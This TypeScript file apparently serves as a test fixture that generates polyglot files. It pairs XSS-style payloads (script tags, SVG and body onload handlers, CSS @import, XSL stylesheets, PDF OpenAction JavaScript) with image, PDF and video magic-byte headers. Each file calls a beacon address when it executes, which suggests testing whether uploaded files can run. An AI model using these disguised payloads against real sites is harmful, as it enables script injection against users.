/** Files that try to run: each payload in each disguise. `make` gets the address that it calls when it succeeds. */

export type Hostile = { name: string; make: (beacon: string) => Buffer };

const PAYLOADS: Record<string, (beacon: string) => string> = {
  html: (to) =>
    `<!doctype html><script>fetch(${JSON.stringify(to)})</script><img src=x onerror="fetch('${to}')">`,
  lateHtml: (to) => `\n<html><body onload="fetch('${to}')"><svg onload="fetch('${to}')"></svg></body></html>`,
  svg: (to) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${to}')"><script>fetch('${to}')</script></svg>`,
  xml: (to) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to}"?><x/>`,
  js: (to) => `fetch(${JSON.stringify(to)})//`,
  commentJs: (to) => `*/=1;fetch(${JSON.stringify(to)})//`,
  css: (to) => `@import url(${to});*{background:url(${to})}`,
  mhtml: (to) => `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>fetch('${to}')</script>`,
  pdfJs: (to) => `1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL\\('${to}'\\))>>>>endobj`,
};

const DISGUISES: Record<string, Buffer> = {
  bare: Buffer.alloc(0),
  gif: Buffer.from("GIF89a/*"),
  gifCode: Buffer.from("GIF89a=0;"),
  pdf: Buffer.from("%PDF-1.7\n"),
  png: Buffer.concat([Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), Buffer.alloc(17)]),
  jpg: Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
  webp: Buffer.from("RIFF/***WEBPVP8 "),
  mp4: Buffer.from("\0\0\0\x14ftypisom\0\0\0\0isom"),
};

const NAMES = ["html", "svg", "js"];

export const HOSTILE: readonly Hostile[] = Object.entries(DISGUISES).flatMap(([disguise, head]) =>
  Object.entries(PAYLOADS).flatMap(([payload, write]) =>
    NAMES.map((extension) => ({
      name: `${disguise}-${payload}.${extension}`,
      make: (beacon: string) => Buffer.concat([head, Buffer.from(write(beacon))]),
    })),
  ),
);
